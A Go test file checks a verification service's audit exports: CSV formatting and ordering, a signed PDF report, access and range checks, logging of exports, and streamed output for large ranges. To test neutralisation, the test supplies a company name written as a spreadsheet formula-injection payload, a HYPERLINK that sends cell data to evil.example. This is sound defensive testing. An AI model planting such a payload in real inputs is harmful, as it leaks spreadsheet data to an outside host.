package tests

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tttverify/tttverify/adapters/http/api"
	"github.com/tttverify/tttverify/domain/screening"
)

// readCSV parses an export, failing unless it is RFC 4180 with CRLF line ends.
func readCSV(t *testing.T, r response) [][]string {
	t.Helper()
	if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv; charset=utf-8") {
		t.Fatalf("Content-Type %q", ct)
	}
	if !bytes.HasSuffix(r.Body, []byte("\r\n")) || bytes.Count(r.Body, []byte("\n")) != bytes.Count(r.Body, []byte("\r\n")) {
		t.Fatalf("rows do not end in CRLF:\n%q", r.Body)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
	if err != nil {
		t.Fatalf("read CSV: %v\n%s", err, r.Body)
	}
	return rows
}

// eventRow is an audit event as the exports print it.
func eventRow(e api.AuditEvent) []string {
	actor := "system"
	if e.ActorEmail != nil {
		actor = *e.ActorEmail
	}
	deref := func(s *string) string {
		if s == nil {
			return ""
		}
		return *s
	}
	return []string{e.CreatedAt.UTC().Format(time.RFC3339), actor, e.Action, deref(e.FromStatus), deref(e.ToStatus), deref(e.Reason)}
}

// cisGenerated waits for the job that generates an approved verification's CIS, the last event of
// its approval, and returns its audit trail.
func cisGenerated(t *testing.T, adm *client, id int64) []api.AuditEvent {
	t.Helper()
	var events []api.AuditEvent
	eventually(t, func() (bool, string) {
		adm.must(http.StatusOK, "GET", "/api/admin/verifications/"+itoa(id)+"/events", nil).JSON(t, &events)
		return events[len(events)-1].Action == "generate-cis", "no CIS yet"
	})
	return events
}

// TestAuditExports: a Top verification whose company is named like a spreadsheet formula is
// screened, its hit decided, PEP acknowledged and approved. Its audit CSV lists the events in the
// order of the audit trail and then the screening decisions with who, when and the note, every
// formula-like cell neutralised; its PDF report is signed (pdfsig) and lists the same. The
// date-range CSV lists exactly the events of its days (an earlier day's approval is out), refuses
// applicants (403) and bad or too long ranges (400), and each export is itself an audit event.
func TestAuditExports(t *testing.T) {
	forEachBackend(t, func(t *testing.T, e *env) {
		// Day one: a Basic approval, outside the later range.
		adm := e.admin(t)
		earlier := e.inReview(t, e.register(t, "early@acme.example"), "basic")
		adm.must(http.StatusOK, "POST", "/api/admin/verifications/"+itoa(earlier.ID)+"/approve", nil)
		cisGenerated(t, adm, earlier.ID)
		dayOne := e.clock.Now().UTC().Format(time.DateOnly)
		e.clock.Advance(72 * time.Hour)

		e.importList(t, screening.EU, listFile(t, "testdata/eu/export.xml"))
		adm = e.admin(t)
		applicant := e.register(t, "formula@acme.example")
		company := `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
		v := topVerification(t, applicant, map[string]string{"companyName": company}, map[string]string{
			"fullName": "Ivan Sergeevich Kuznetsov", "dateOfBirth": "1971-03-14", "nationality": "RU", "issuingCountry": "RU",
			"passportNumber": "RU1234567"})
		pay(t, applicant, v.ID)
		vid := itoa(v.ID)
		hit := subjectOf(screened(t, adm, v.ID, 0), "representative").Hits[0]
		note := "-different passport and career; +1 source says otherwise"
		adm.must(http.StatusOK, "POST", "/api/admin/verifications/"+vid+"/screening/hits/"+itoa(hit.ID)+"/decision",
			map[string]string{"outcome": "false_positive", "note": note})
		adm.must(http.StatusOK, "POST", "/api/admin/verifications/"+vid+"/screening/pep-acknowledgement",
			map[string]string{"note": "@reviewed public sources by hand"})
		adm.must(http.StatusOK, "POST", "/api/admin/verifications/"+vid+"/approve", nil)
		events := cisGenerated(t, adm, v.ID)

		// The verification's CSV: its events in order, then the decisions.
		rows := readCSV(t, adm.must(http.StatusOK, "GET", "/api/admin/verifications/"+vid+"/audit.csv", nil))
		if diff := cmp.Diff([]string{"record", "time", "actor", "action", "from_status", "to_status", "subject", "list", "entry",
			"detail"}, rows[0]); diff != "" {
			t.Fatalf("header (-want +got):\n%s", diff)
		}
		if rows[1][0] != "verification" || rows[1][6] != "'"+company || rows[1][8] != v.PublicID || rows[1][2] != "admin@ttt.example" {
			t.Errorf("verification row %q, want the company name neutralised", rows[1])
		}
		var gotEvents, wantEvents [][]string
		var decisions [][]string
		for _, r := range rows[2:] {
			switch r[0] {
			case "event":
				gotEvents = append(gotEvents, []string{r[1], r[2], r[3], r[4], r[5], r[9]})
			case "screening_decision":
				decisions = append(decisions, r[1:])
			}
		}
		for _, ev := range events {
			wantEvents = append(wantEvents, eventRow(ev))
		}
		if diff := cmp.Diff(wantEvents, gotEvents); diff != "" {
			t.Errorf("event rows (-want +got):\n%s", diff)
		}
		actions := []string{}
		for _, ev := range events {
			actions = append(actions, ev.Action)
		}
		if i, j, k := slices.Index(actions, "screening.hit_decided"), slices.Index(actions, "screening.pep_acknowledged"),
			slices.Index(actions, "approve"); i < 0 || j < i || k < j {
			t.Errorf("trail %v, want the hit decision, the PEP acknowledgement and the approval in order", actions)
		}
		if len(decisions) != 2 || decisions[0][1] != "admin@ttt.example" || decisions[0][2] != "false_positive" ||
			decisions[0][5] != "Ivan Sergeevich Kuznetsov" || !strings.HasPrefix(decisions[0][6], "EU") ||
			!strings.Contains(decisions[0][7], hit.Entry.SourceID) || decisions[0][8] != "'"+note ||
			decisions[1][2] != "pep_acknowledged" || decisions[1][8] != "'@reviewed public sources by hand" {
			t.Errorf("decision rows %q", decisions)
		}
		for _, r := range rows {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q would be read as a formula", cell)
				}
			}
		}

		// The PDF report: signed, and it lists the events and the decision.
		report := adm.must(http.StatusOK, "GET", "/api/admin/verifications/"+vid+"/audit.pdf", nil)
		if out := pdfsig(t, report.Body); !strings.Contains(out, "Signature is Valid.") {
			t.Errorf("pdfsig on the audit report:\n%s", out)
		}
		text := strings.Join(strings.Fields(pdfText(t, report.Body)), " ")
		for _, want := range []string{"Audit report", company, "screening.hit_decided", "approve", "false_positive",
			"Kuznetsov", "pep_acknowledged", events[len(events)-1].CreatedAt.UTC().Format("2006-01-02 15:04:05"),
			"Signed with a test certificate"} {
			if !strings.Contains(text, want) {
				t.Errorf("the report lacks %q:\n%s", want, text)
			}
		}

		// Who may export what range.
		applicant.must(http.StatusForbidden, "GET", "/api/admin/audit.csv?from="+dayOne+"&to="+dayOne, nil)
		applicant.must(http.StatusForbidden, "GET", "/api/admin/verifications/"+vid+"/audit.csv", nil)
		for _, q := range []string{"", "?from=" + dayOne, "?from=2026-02-30&to=2026-03-01", "?from=2026-03-02&to=2026-03-01",
			"?from=2025-01-01&to=2026-01-02"} {
			r := adm.must(http.StatusBadRequest, "GET", "/api/admin/audit.csv"+q, nil)
			if !strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") {
				t.Errorf("%s: a refusal is %q", q, r.Header.Get("Content-Type"))
			}
		}
		adm.must(http.StatusOK, "GET", "/api/admin/audit.csv?from=2025-01-01&to=2026-01-01", nil) // 366 days

		// Day one holds exactly the Basic approval's events.
		var early []api.AuditEvent
		adm.must(http.StatusOK, "GET", "/api/admin/verifications/"+itoa(earlier.ID)+"/events", nil).JSON(t, &early)
		want := [][]string{{"time", "verification_id", "actor", "action", "from_status", "to_status", "detail"}}
		for _, ev := range early {
			r := eventRow(ev)
			want = append(want, slices.Concat(r[:1], []string{itoa(earlier.ID)}, r[1:]))
		}
		dayOneRows := readCSV(t, adm.must(http.StatusOK, "GET", "/api/admin/audit.csv?from="+dayOne+"&to="+dayOne, nil))
		if diff := cmp.Diff(want, dayOneRows); diff != "" {
			t.Errorf("day one (-want +got):\n%s", diff)
		}

		// Today holds the Top verification's events and the exports, this one last.
		today := e.clock.Now().UTC().Format(time.DateOnly)
		todayRows := readCSV(t, adm.must(http.StatusOK, "GET", "/api/admin/audit.csv?from="+today+"&to="+today, nil))
		var ofTop, exports [][]string
		for _, r := range todayRows[1:] {
			switch r[1] {
			case vid:
				ofTop = append(ofTop, slices.Concat(r[:1], r[2:]))
			case "":
				exports = append(exports, r[2:4])
				if r[2] != "admin@ttt.example" || r[3] != "audit.exported" {
					t.Errorf("export row %q", r)
				}
			default:
				t.Errorf("today's export lists %q of another day", r)
			}
		}
		if diff := cmp.Diff(wantEvents, ofTop); diff != "" {
			t.Errorf("today's events of the Top verification (-want +got):\n%s", diff)
		}
		details := []string{}
		for _, r := range todayRows[1:] {
			if r[1] == "" {
				details = append(details, r[6])
			}
		}
		wantDetails := []string{"audit trail of verification " + vid + " (CSV)", "audit report of verification " + vid + " (PDF)",
			"audit events from 2025-01-01 to 2026-01-01 (CSV)", "audit events from " + dayOne + " to " + dayOne + " (CSV)",
			"audit events from " + today + " to " + today + " (CSV)"}
		if diff := cmp.Diff(wantDetails, details); diff != "" || len(exports) != len(wantDetails) {
			t.Errorf("the exports recorded (-want +got):\n%s", diff)
		}
	}, withWorkers)
}

// TestAuditRangeExportStreams: exporting 60,000 events does not hold them: while the CSV (about
// 6 MB) downloads, the server's live heap, measured after a collection every few milliseconds,
// grows by less than the body's size (holding the rows takes about 2.5 times the body: 17.7 MB
// measured, against 2.7 MB streamed), and the answer is chunked, without a length. Run
// alone on SQLite (no t.Parallel) so that no other test's memory is counted.
func TestAuditRangeExportStreams(t *testing.T) {
	e := newEnv(t, "")
	adm := e.admin(t)
	v := e.inReview(t, e.register(t, "many@acme.example"), "basic")
	type row struct {
		VerificationID int64     `bun:"verification_id"`
		Action         string    `bun:"action"`
		FromStatus     string    `bun:"from_status"`
		ToStatus       string    `bun:"to_status"`
		Reason         string    `bun:"reason"`
		CreatedAt      time.Time `bun:"created_at"`
	}
	const n, batch = 60000, 2000
	start := e.clock.Now().UTC()
	for i := 0; i < n; i += batch {
		rows := make([]row, batch)
		for j := range rows {
			rows[j] = row{VerificationID: v.ID, Action: "note", FromStatus: "in_review", ToStatus: "in_review",
				Reason: "a reviewer's note of some length, as audit reasons are", CreatedAt: start.Add(time.Duration(i+j) * time.Millisecond)}
		}
		if _, err := e.DB.NewInsert().Model(&rows).ModelTableExpr("audit_events").Exec(context.Background()); err != nil {
			t.Fatal(err)
		}
	}
	day := start.Format(time.DateOnly)
	req, _ := http.NewRequest(http.MethodGet, e.srv.URL+"/api/admin/audit.csv?from="+day+"&to="+day, nil)
	for _, c := range adm.http.Jar.Cookies(req.URL) {
		req.AddCookie(c)
	}

	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	base, peak := m.HeapAlloc, m.HeapAlloc
	done := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		for {
			select {
			case <-done:
				return
			case <-time.After(5 * time.Millisecond):
				runtime.GC()
				runtime.ReadMemStats(&m)
				peak = max(peak, m.HeapAlloc)
			}
		}
	}()
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	lines, size := 0, 0
	sc := bufio.NewScanner(res.Body)
	for sc.Scan() {
		lines++
		size += len(sc.Bytes()) + 2
	}
	_ = res.Body.Close()
	close(done)
	<-sampled
	if res.StatusCode != http.StatusOK || sc.Err() != nil || lines < n+1 {
		t.Fatalf("status %d, %d lines, %v", res.StatusCode, lines, sc.Err())
	}
	if res.ContentLength != -1 || !slices.Equal(res.TransferEncoding, []string{"chunked"}) {
		t.Errorf("Content-Length %d, Transfer-Encoding %v: want a chunked stream", res.ContentLength, res.TransferEncoding)
	}
	grew := int64(peak) - int64(base)
	t.Logf("%d rows, %d bytes; live heap grew by at most %d bytes", lines, size, grew)
	if grew > int64(size) {
		t.Errorf("the live heap grew by %d bytes while a %d-byte export streamed: rows are held", grew, size)
	}
	_, _ = io.Copy(io.Discard, res.Body)
}
